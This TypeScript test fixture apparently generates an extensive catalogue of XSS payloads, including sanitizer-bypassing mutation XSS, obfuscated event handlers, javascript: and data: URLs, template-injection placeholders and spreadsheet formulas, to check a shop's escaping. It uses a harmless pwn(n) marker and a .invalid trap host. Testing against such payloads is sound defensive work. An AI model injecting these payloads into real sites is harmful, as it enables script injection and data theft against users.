/**
 * Texts that try to run in a browser. Each calls `pwn(n)` with its own number, or requests a host
 * that does not exist, so that a payload that gets through can be identified.
 */

export interface Payload {
  n: number;
  text: string;
}

/** Requested by a payload that loads something instead of running. `.invalid` belongs to nobody. */
export const TRAP_HOST = 'trap.invalid';

type Make = (call: string, n: number) => string;

const trap = (n: number) => `//${TRAP_HOST}/${String(n)}`;

/** They run wherever they are parsed as HTML; short, so that they fit into a shop's own texts. */
const elements: readonly Make[] = [
  (c) => `<script>${c}</script>`,
  (c) => `<img src=x onerror=${c}>`,
  (c) => `<svg onload=${c}>`,
  (c) => `<svg><set onbegin=${c}>`,
  (c) => `<video src=x onerror=${c}>`,
  (c) => `<details open ontoggle=${c}>`,
  (c) => `<iframe onload=${c}>`,
  (c) => `<iframe src=javascript:parent.${c}>`,
  (c) => `<input autofocus onfocus=${c}>`,
  (c) => `<style onload=${c}></style>`,
];

/** Ways to break out of the context around the text. */
const wrappings: readonly ((inner: string) => string)[] = [
  (inner) => inner,
  (inner) => `">${inner}`,
  (inner) => `'>${inner}`,
  (inner) => `</script>${inner}`,
  (inner) => `-->${inner}`,
  (inner) => `</textarea>${inner}`,
  (inner) => `</title></style>${inner}`,
  (inner) => `<svg><desc>${inner}`,
  (inner) => `<math><mtext>${inner}`,
  (inner) => `]]>${inner}`,
  (inner) => `\\">${inner}`,
];

/** Other elements, and obfuscated ones that bypass a filter of letters. */
const disguises: readonly Make[] = [
  (c) => `<img/src/onerror=${c}>`,
  (c) => `<IMG SRC=x ONERROR=${c}>`,
  (c) => `<iMg sRc=x OnErRoR=${c}>`,
  (c) => `<img src=x onerror\t=\t${c}>`,
  (c) => `<img src=x onerror\n=\n${c}\n>`,
  (c) => `<img src=x onerror\u000c=${c}>`,
  (c) => `<img src=x onerror="${c}">`,
  (c) => `<img src=x onerror='${c}'>`,
  (c) => `<img src=x onerror=\`\`${c}>`,
  (c) => `<img src=x:x onerror=${c.replace('(', '&lpar;').replace(')', '&rpar;')}>`,
  (c) => `<img src=x onerror=${c.replace('pwn', '&#112;wn')}>`,
  (c) => `<img src=x onerror=${c.replace('pwn', '\\u0070wn')}>`,
  (c) => `<img src=x onerror=javascript:${c}>`,
  (c) => `<img src=x onerror=window['p'+'wn']${c.slice(3)}>`,
  (c) => `<img src=x onerror=eval('${c}')>`,
  (c) => `<img src="x" title=">" onerror=${c}>`,
  (c) => `<image src=x onerror=${c}>`,
  (c) => `<img srcset=x onerror=${c}>`,
  (c) => `<picture><source srcset=x><img onerror=${c}></picture>`,
  (c) => `<audio src=x onerror=${c}>`,
  (c) => `<video><source onerror=${c}></video>`,
  (c) => `<body onload=${c}>`,
  (c) => `<body onpageshow=${c}>`,
  (c) => `<marquee onstart=${c}>x</marquee>`,
  (c) => `<select autofocus onfocus=${c}>`,
  (c) => `<textarea autofocus onfocus=${c}></textarea>`,
  (c) => `<button autofocus onfocus=${c}>x</button>`,
  (c) => `<a href=x autofocus onfocus=${c}>x</a>`,
  (c) => `<b tabindex=1 id=x onfocus=${c}>x</b>`,
  (c) => `<object data=x onerror=${c}></object>`,
  (c) => `<object data="javascript:${c}"></object>`,
  (c) => `<embed src="javascript:${c}">`,
  (c) => `<iframe srcdoc="<script>parent.${c}</script>"></iframe>`,
  (c) => `<iframe srcdoc="&lt;img src=x onerror=parent.${c}&gt;"></iframe>`,
  (c) => `<iframe src="data:text/html,<script>parent.${c}</script>"></iframe>`,
  (c) => `<iframe src="jAvAsCrIpT:parent.${c}"></iframe>`,
  (c) => `<iframe src="java&Tab;script:parent.${c}"></iframe>`,
  (c) => `<svg/onload=${c}//`,
  (c) => `<svg><animate onbegin=${c} attributeName=x dur=1s>`,
  (c) => `<svg><script>${c}</script></svg>`,
  (c) => `<svg><script href="data:,${c}"></script></svg>`,
  (c) => `<svg><a xlink:href="javascript:${c}"><text y=9>x</text></a></svg>`,
  (c) => `<svg><use href="data:image/svg+xml,<svg onload='${c}'/>#x"/></svg>`,
  (c) => `<svg><foreignObject><img src=x onerror=${c}></foreignObject></svg>`,
  (c) => `<math href="javascript:${c}">x</math>`,
  (c) => `<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart=${c}>x</b>`,
  (c) => `<b style="animation:none;transition:color 1s" ontransitionrun=${c}>x</b>`,
  (c) => `<script src="data:text/javascript,${c}"></script>`,
  (c) => `<script type=module>${c}</script>`,
  (c) => `<scr<script>ipt>${c}</scr</script>ipt>`,
  (c) => `<script\n>${c}</script\n>`,
  (c) => `<script/x>${c}</script>`,
  (c) => `<<script>${c}//<</script>`,
  (c) => `<template><img src=x onerror=${c}></template>`,
  (c) => `<dialog open onclose=${c}><form method=dialog><button>x</button></form></dialog>`,
  (c) => `<form action="javascript:${c}"><button>x</button></form>`,
  (c) => `<button formaction="javascript:${c}">x</button>`,
  (c) => `<a href="javascript:${c}">x</a>`,
  (c) => `<meta http-equiv=refresh content="0;url=javascript:${c}">`,
  (c) => `<x onclick=${c} oncontextmenu=${c}>x</x>`,
  (c) => `<input type=image src=x onerror=${c}>`,
  (c) => `<link rel=stylesheet href=x onerror=${c}>`,
];

/** Mutation XSS: HTML that a sanitizer and a browser parse differently. */
const mutations: readonly Make[] = [
  (c) => `<noscript><p title="</noscript><img src=x onerror=${c}>">`,
  (c) => `<xmp><p title="</xmp><img src=x onerror=${c}>">`,
  (c) => `<noembed><p title="</noembed><img src=x onerror=${c}>">`,
  (c) => `<svg></p><style><a id="</style><img src=x onerror=${c}>">`,
  (c) => `<math><mtext><table><mglyph><style><img src=x onerror=${c}></style>`,
  (c) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${c}>`,
  (c) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${c}>`,
  (c) => `<table><td><svg><style><img src=x onerror=${c}></style></svg></table>`,
  (c) => `<!--><img src=x onerror=${c}>-->`,
  (c) => `<!--!><img src=x onerror=${c}>`,
  (c) => `<? ><img src=x onerror=${c}>?>`,
  (c) => `<![CDATA[><img src=x onerror=${c}>]]>`,
  (c) => `<p title='</p><img src=x onerror=${c}>'></p><img src=x onerror=${c}>`,
  (c) => `<a href="<img src=x onerror=${c}>"></a><img alt="\`><img src=x onerror=${c}>\`">`,
  (c) => `<option><style></option></select><img src=x onerror=${c}></style>`,
];

/** Ways to break out of a script, and of JSON inside one. */
const scripts: readonly Make[] = [
  (c) => `";${c}//`,
  (c) => `';${c}//`,
  (c) => `\`;${c}//`,
  (c) => `"-${c}-"`,
  (c) => `'-${c}-'`,
  (c) => `"+${c}+"`,
  (c) => `\\";${c}//`,
  (c) => `\\\\";${c}//`,
  (c) => `"};${c};({"a":"`,
  (c) => `"]};${c};//`,
  (c) => `\u2028;${c}//`,
  (c) => `<!--<script>*/${c}//`,
  (c) => `*/${c}/*`,
  (c) => `\\u0022;${c}//`,
  (c) => `</SCRIPT ><script>${c}</script>`,
  (c) => `\\u003cscript\\u003e${c}\\u003c/script\\u003e`,
];

/** Attributes, for contexts where the quotes around a value can be closed. */
const attributes: readonly Make[] = [
  (c) => `" autofocus tabindex=1 onfocus=${c} x="`,
  (c) => `' autofocus tabindex=1 onfocus=${c} x='`,
  (c) => ` autofocus tabindex=1 onfocus=${c} `,
  (c) => `"style="animation:k 1s"onanimationstart="${c}`,
  (c) => `" onmouseover="${c}`,
  (c) => `&quot; autofocus onfocus=${c} x=&quot;`,
  (c) => `\`" onpointerenter=${c} \``,
];

/** Targets of a link or a form. */
const addresses: readonly Make[] = [
  (c) => `javascript:${c}`,
  (c) => `JaVaScRiPt:${c}`,
  (c) => ` javascript:${c}`,
  (c) => `\u0001javascript:${c}`,
  (c) => `java\tscript:${c}`,
  (c) => `java\nscript:${c}`,
  (c) => `javascript://%0a${c}`,
  (c) => `javascript:void(${c})`,
  (c) => `javascript&colon;${c}`,
  (c) => `vbscript:${c}`,
  (c) => `data:text/html,<script>parent.${c}</script>`,
  (c) => `data:text/html;base64,${Buffer.from(`<script>parent.${c}</script>`).toString('base64')}`,
  (_, n) => `https:${trap(n)}`,
  (_, n) => trap(n),
  (_, n) => `\\\\${TRAP_HOST}\\${String(n)}`,
];

/** They run nothing, but request another host, or navigate away. */
const loaders: readonly Make[] = [
  (_, n) => `<img src=${trap(n)}>`,
  (_, n) => `<link rel=stylesheet href=${trap(n)}>`,
  (_, n) => `<script src=${trap(n)}></script>`,
  (_, n) => `<iframe src=${trap(n)}></iframe>`,
  (_, n) => `<object data=${trap(n)}></object>`,
  (_, n) => `<video poster=${trap(n)}></video>`,
  (_, n) => `<input type=image src=${trap(n)}>`,
  (_, n) => `<body background=${trap(n)}>`,
  (_, n) => `<table background=${trap(n)}><td>x</table>`,
  (_, n) => `<b style="background:url(${trap(n)})">x</b>`,
  (_, n) => `<style>@import '${trap(n)}';</style>`,
  (_, n) => `<style>*{background:url(${trap(n)})!important}</style>`,
  (_, n) => `<svg><image href=${trap(n)} /></svg>`,
  (_, n) => `<meta http-equiv=refresh content="0;url=${trap(n)}">`,
  (_, n) => `<base href=${trap(n)}/>`,
  (_, n) => `<form action=${trap(n)}><input name=a><button>x</button></form>`,
  (_, n) => `<link rel=prefetch href=${trap(n)}>`,
  (_, n) => `![x](https:${trap(n)})`,
  (_, n) => `=HYPERLINK("https:${trap(n)}","x")`,
  (_, n) => `=IMPORTXML("https:${trap(n)}","//a")`,
];

/** Placeholders of templates, or of the interpolation of sentences. */
const templates: readonly Make[] = [
  (c) => `\${${c}}`,
  (c) => `{{${c}}}`,
  (c) => `{{constructor.constructor('${c}')()}}`,
  (c) => `#{${c}}`,
  (c) => `<%= ${c} %>`,
  (c) => `[[${c}]]`,
  (c) => `{%${c}%}`,
  (_, n) => `{{name}} ${String(n)}`,
  (_, n) => `{{amount}} {{- orderNo}} ${String(n)}`,
  (_, n) => `{{product, uppercase}} ${String(n)}`,
  (_, n) => `$t(common.close) ${String(n)}`,
  (_, n) => `$t(operations.busy.refund, {"name":"x"}) ${String(n)}`,
  (_, n) => `{{ $t(common.close) }} ${String(n)}`,
  (_, n) => `#$?name?$# ${String(n)}`,
  (_, n) => `<b>${String(n)}</b>`,
  (_, n) => `</b><n>${String(n)}</n>`,
  (_, n) => `<0>${String(n)}</0><1/>`,
  (_, n) => `<b>{{amount}}${String(n)}`,
  (_, n) => `<br><i>${String(n)}</i><strong>x</strong><p>`,
  (_, n) => `%s %d %(name)s $1 $& $\` $' ${String(n)}`,
];

/** Look-alike letters, and texts that were escaped once or twice already. */
const letters: readonly Make[] = [
  (c) => `&lt;img src=x onerror=${c}&gt;`,
  (c) => `&amp;lt;img src=x onerror=${c}&amp;gt;`,
  (c) => `&#60;img src=x onerror=${c}&#62;`,
  (c) => `&#x3c;img src=x onerror=${c}&#x3e;`,
  (c) => `&#0000060img src=x onerror=${c}>`,
  (c) => `%3Cimg src=x onerror=${c}%3E`,
  (c) => `%253Cscript%253E${c}`,
  (c) => `+ADw-script+AD4-${c}+ADw-/script+AD4-`,
  (c) => `\\x3cscript\\x3e${c}`,
  (c) => `＜script＞${c}＜/script＞`,
  (c) => `﹤img src=x onerror=${c}﹥`,
  (c) => `‹script›${c}‹/script›`,
  (c) => `<ѕcript>${c}</ѕcript>`,
  (c) => `<scrıpt>${c}</scrıpt>`,
  (c) => `<ſcript>${c}</ſcript>`,
  (c) => `<scr\u200bipt>${c}</scr\u200bipt>`,
  (c) => `<\u200dimg src=x onerror=${c}>`,
  (c) => `\ufeff<img src=x onerror=${c}>`,
  (c) => `<img\u00a0src=x\u00a0onerror=${c}>`,
  (c) => `<img\u3000src=x onerror=${c}>`,
  (c) => `\u202e>)7(nwp=rorreno x=crs gmi<\u202c ${c}`,
  (c) => `\u2066<img src=x onerror=${c}>\u2069`,
  (c) => `<img src=x onerror\u0301=${c}>`,
  (c) => `금액\u202e원000,01\u202c <img src=x onerror=${c}>`,
  (c) => `🏴\u{e0067}\u{e007f}<img src=x onerror=${c}>`,
];

const all: readonly Make[] = [
  ...wrappings.flatMap((wrap) =>
    elements.map(
      (make): Make =>
        (c, n) =>
          wrap(make(c, n)),
    ),
  ),
  ...disguises,
  ...mutations,
  ...scripts,
  ...attributes,
  ...addresses,
  ...loaders,
  ...templates,
  ...letters,
];

export const payloads: readonly Payload[] = all.map((make, index) => {
  const n = 100 + index;
  return { n, text: make(`pwn(${String(n)})`, n) };
});

/** Closes whatever the payload before it has opened, so that the next one starts clean. */
const BETWEEN = ` --></textarea></title></style></script></template></select>"'> `;

/** Joins several payloads; `first` is the index of the first one. */
export function joined(some: readonly Payload[], first: number): string {
  const at = first % some.length;
  return [...some.slice(at), ...some.slice(0, at)].map(({ text }) => text).join(BETWEEN);
}

/** Splits into `count` groups, whose sizes differ by at most one. */
export function inGroups(some: readonly Payload[], count: number): Payload[][] {
  return Array.from({ length: count }, (_, group) =>
    some.filter((_payload, index) => index % count === group),
  );
}

/** Those that fit into a field of limited length, without characters that such a field refuses. */
export function shortPayloads(maxLength: number, refused = /\p{Cc}/u): Payload[] {
  return payloads.filter(({ text }) => {
    return text.length <= maxLength && text.trim() === text && !refused.test(text);
  });
}
